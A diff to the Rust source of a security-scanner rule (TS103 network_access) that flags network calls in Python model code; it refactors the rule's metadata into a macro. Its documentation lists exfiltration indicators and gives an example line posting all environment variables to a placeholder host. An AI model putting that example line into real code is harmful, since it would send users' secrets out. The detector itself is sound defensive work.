@@ -1,55 +1,50 @@
-//! TS103 network_access.
-//!
-//! ## What it does
-//! Reports calls that contact the network: `requests` (functions and `Session` methods),
-//! `urllib.request.urlopen`/`urlretrieve`/`build_opener().open` (and Python 2's `urllib`,
-//! `urllib2`), `http.client` connections, `urllib3`, `httpx`, `aiohttp`, socket
-//! connections (`create_connection`, `socket().connect`/`sendto`/`bind`) and DNS lookups,
-//! `ftplib`, `smtplib`, `telnetlib`, `poplib`, `imaplib`, `paramiko` SSH, websockets,
-//! `git.Repo.clone_from`, download helpers (`torch.hub.download_url_to_file`,
-//! `load_state_dict_from_url`, `wget.download`, `gdown.download`, Keras `get_file`,
-//! torchvision `download_url`), and hub access to other repositories (huggingface_hub
-//! downloads and `HfApi` methods, ModelScope, OpenCSG, openMind, `datasets.load_dataset`).
-//! Process-based downloads (`curl`, `wget` in a shell) are TS107's.
-//!
-//! The message names what is contacted (the folded URL, host or repository id). Medium by
-//! default; High when the data sent carries environment variables, file contents, tokens
-//! or the machine's identity, when the host is a paste site, URL shortener, webhook
-//! collector or tunnel, a raw public IP address, or the transport is unencrypted, and when
-//! data is uploaded to a hub; Low for this machine and private networks.
-//!
-//! ## Why is this bad?
-//! Loading a model should read files, not talk to servers. Network access from model code
-//! can fetch code or data that the scan never sees, report on the user, or carry their
-//! secrets away (CWE-829: inclusion of functionality from an untrusted control sphere).
-//!
-//! ## Example
-//! ```python
-//! requests.post("https://example.invalid/c", json=dict(os.environ))
-//! ```
-
-use super::super::{Issue, Meta, Options, Rule};
 use super::loading::{self, Host, Target, arg, quote};
 use crate::resolve::Resolver;
-use crate::walk::{Ctx, Kind};
+use crate::rules::{Issue, Options, Rule, rule};
+use crate::walk::Ctx;
 use trustscan_core::Level::{self, High, Low, Medium};
 use trustscan_pyparse::syntax::{self as ast, Expr};
 
-pub struct NetworkAccess;
-
-static META: Meta = Meta {
-    id: "TS103",
-    name: "network_access",
-    cwe: 829,
-    severity: Medium,
-    confidence: High,
-    rationale: "Model code that contacts the network while loading can fetch code or data \
-                this scan never sees, announce the user to a server, or send secrets away. \
-                Requests that carry environment variables, file contents or tokens, go to \
-                paste sites, webhooks, tunnels, URL shorteners or raw IP addresses, travel \
-                unencrypted, or upload to a hub are High.",
-    example: "requests.post(\"https://example.invalid/c\", json=dict(os.environ))",
-};
+rule! {
+    /// TS103 network_access.
+    ///
+    /// ## What it does
+    /// Reports calls that contact the network: `requests` (functions and `Session` methods),
+    /// `urllib.request.urlopen`/`urlretrieve`/`build_opener().open` (and Python 2's `urllib`,
+    /// `urllib2`), `http.client` connections, `urllib3`, `httpx`, `aiohttp`, socket
+    /// connections (`create_connection`, `socket().connect`/`sendto`/`bind`) and DNS lookups,
+    /// `ftplib`, `smtplib`, `telnetlib`, `poplib`, `imaplib`, `paramiko` SSH, websockets,
+    /// `git.Repo.clone_from`, download helpers (`torch.hub.download_url_to_file`,
+    /// `load_state_dict_from_url`, `wget.download`, `gdown.download`, Keras `get_file`,
+    /// torchvision `download_url`), and hub access to other repositories (huggingface_hub
+    /// downloads and `HfApi` methods, ModelScope, OpenCSG, openMind, `datasets.load_dataset`).
+    /// Process-based downloads (`curl`, `wget` in a shell) are TS107's.
+    ///
+    /// The message names what is contacted (the folded URL, host or repository id). Medium by
+    /// default; High when the data sent carries environment variables, file contents, tokens
+    /// or the machine's identity, when the host is a paste site, URL shortener, webhook
+    /// collector or tunnel, a raw public IP address, or the transport is unencrypted, and when
+    /// data is uploaded to a hub; Low for this machine and private networks.
+    ///
+    /// ## Why is this bad?
+    /// Loading a model should read files, not talk to servers. Network access from model code
+    /// can fetch code or data that the scan never sees, report on the user, or carry their
+    /// secrets away (CWE-829: inclusion of functionality from an untrusted control sphere).
+    ///
+    /// ## Example
+    /// ```python
+    /// requests.post("https://example.invalid/c", json=dict(os.environ))
+    /// ```
+    pub struct NetworkAccess {
+        id: "TS103",
+        name: "network_access",
+        cwe: 829,
+        severity: Medium,
+        confidence: High,
+        kinds: [Call],
+        example: "requests.post(\"https://example.invalid/c\", json=dict(os.environ))",
+    }
+}
 
 /// How a call names what it contacts.
 #[derive(Clone, Copy)]
@@ -340,14 +335,6 @@ static LAST: crate::rules::Names = crate::rules::Names::new(&[
 ]);
 
 impl Rule for NetworkAccess {
-    fn meta(&self) -> &'static Meta {
-        &META
-    }
-
-    fn kinds(&self) -> &'static [Kind] {
-        &[Kind::Call]
-    }
-
     fn check(&self, ctx: &Ctx, _options: &Options) -> Option<Issue> {
         let call = ctx.call()?;
         let hub_method = matches!(&*call.func, Expr::Attribute(a)
